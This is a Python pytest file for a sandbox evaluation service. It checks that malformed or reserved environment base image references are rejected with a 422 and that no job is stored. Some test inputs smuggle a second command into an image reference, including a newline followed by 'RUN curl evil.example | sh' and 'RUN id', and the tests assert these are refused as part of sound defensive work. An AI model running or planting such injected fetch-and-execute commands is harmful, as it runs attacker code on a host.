"""A declarative environment's `base` is an image reference that names none of the box's own
images: over real HTTP, a Python suite whose listed case declares a bad one answers 422
naming the case and the field, and stores no job. The listing is the fake backend's (the
case's environment as suite code would describe it), so no sandbox runs."""

from __future__ import annotations

import json
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from sandbox.protocol import CaseInfo, CasesMessage
from service.backends.fake import FakeBackend, FakeWorker
from service.environments.errors import EnvironmentProblem
from service.environments.references import MAX_REFERENCE, check_base, check_reference
from service.suites.archives import pack_directory
from tests.api.test_suites import GZIP, harbor_tree
from tests.docker.conftest import Server, serve


def _listing(environment: dict[str, Any]) -> Callable[[FakeWorker], int]:
    def worker(w: FakeWorker) -> int:
        request = json.loads(w.request)
        assert request["type"] == "list_cases", "an API test started a trial"
        w.say(CasesMessage([CaseInfo(id="c1", environment=environment)]))
        return 0

    return worker


@pytest.fixture
def serve_listing(tmp_path: Path) -> Iterator[Callable[[dict[str, Any]], Server]]:
    servers: list[Server] = []

    def start(environment: dict[str, Any]) -> Server:
        database = f"sqlite:///{tmp_path / f'examhall-{len(servers)}.db'}"
        servers.append(serve(database, make_backend=lambda: FakeBackend(_listing(environment))))
        return servers[-1]

    yield start
    for server in servers:
        server.stop()


def _submit(server: Server) -> Any:
    # A fresh source each time: listings are cached by the suite's sha256.
    suite = {"name": "based", "source": f"# {uuid.uuid4().hex}\n"}
    return server.http.post(
        "/v1/jobs", json={"suite": suite, "model": {"provider": "faux", "id": "solution"}}
    )


def _jobs(server: Server) -> int:
    engine = sa.create_engine(server.database_url)
    with engine.connect() as connection:
        count: int = connection.execute(sa.text("SELECT count(*) FROM jobs")).scalar_one()
    engine.dispose()
    return count


@pytest.mark.parametrize(
    ("base", "message"),
    [
        ("debian:bookworm\nRUN curl evil.example | sh", "holds whitespace or a control"),
        ("debian:bookworm RUN", "holds whitespace or a control"),
        ("Debian:Bookworm", "is not an image reference"),
        ("debian:", "is not an image reference"),
        ("debian@sha256:abc", "is not an image reference"),
        ("a/" * 200 + "b", "longer than Docker's 255 characters"),
        ("a" * 1000, f"1 to {MAX_REFERENCE} characters"),
        ("examhall/env:0123456789ab", "one of this box's own images"),
        ("examhall/env-agent:0123456789ab", "one of this box's own images"),
        ("docker.io/examhall/env:0123456789ab", "one of this box's own images"),
        ("examhall/control-plane", "one of this box's own images"),
        ("sha256:" + "0" * 64, "a local image by its id"),
        ("0123456789ab", "a local image by its id"),
    ],
)
def test_a_bad_base_is_422_naming_the_case_and_the_field(
    serve_listing: Callable[[dict[str, Any]], Server], base: str, message: str
) -> None:
    server = serve_listing({"base": base, "apt": ["git"]})
    response = _submit(server)
    assert response.status_code == 422, response.text
    detail = response.json()["detail"][0]
    assert detail["loc"] == ["body", "suite"]
    assert "suite based, case c1: environment base: " in detail["msg"], detail
    assert "Value error" not in detail["msg"]
    assert message in detail["msg"], detail
    assert _jobs(server) == 0


def test_a_good_base_passes_to_the_next_check(
    serve_listing: Callable[[dict[str, Any]], Server],
) -> None:
    pinned = "registry.example:5000/team/base:1@sha256:" + "a" * 64
    server = serve_listing({"base": pinned, "apt": ["git"]})
    response = _submit(server)
    # The base is fine; the fake backend cannot build images, which is the next refusal.
    assert response.status_code == 422, response.text
    assert "cannot do; that needs the docker backend" in response.text
    assert "environment base" not in response.text


@pytest.mark.parametrize(
    "reference",
    [
        "debian",
        "debian:bookworm-slim",
        "python:3.12-slim",
        "library/debian:12",
        "ghcr.io/org/team/image:v1.2_3",
        "localhost:5000/x__y.z--w",
        "[::1]:5000/x",
        "debian@sha256:" + "f" * 64,
        "examhall/debian-base:bookworm",  # the box's bootstrapped base is for everyone
        "examhall/sandbox:latest",
        "examhall/environment:1",  # not examhall/env: another repository
    ],
)
def test_references_docker_takes_are_taken(reference: str) -> None:
    assert check_base(reference) == reference == check_reference(reference)


def test_check_reference_is_grammar_only_and_a_value_error() -> None:
    # The grammar alone says nothing of whose image it is: check_base does.
    assert check_reference("examhall/env:0123456789ab") == "examhall/env:0123456789ab"
    with pytest.raises(ValueError, match="holds whitespace"):
        check_reference("debian\n")
    with pytest.raises(EnvironmentProblem, match="longer than Docker's 255"):
        check_reference("a" * 256 + ":1")


def test_a_harbor_docker_image_of_more_than_one_line_is_422_at_upload(
    server: Server, tmp_path: Path
) -> None:
    root = harbor_tree(tmp_path / "suite", tasks=("img",))
    (root / "img" / "environment" / "Dockerfile").unlink()
    (root / "img" / "task.toml").write_text(
        'version = "1.0"\n[environment]\ndocker_image = "debian:bookworm\\nRUN id"\n'
    )
    response = server.http.post(
        "/v1/suites", params={"name": "img"}, content=pack_directory(root), headers=GZIP
    )
    assert response.status_code == 422, response.text
    message = response.json()["detail"][0]["msg"]
    assert "task img: task.toml [environment].docker_image = 'debian:bookworm\\nRUN id'" in message
    assert "holds whitespace or a control character" in message
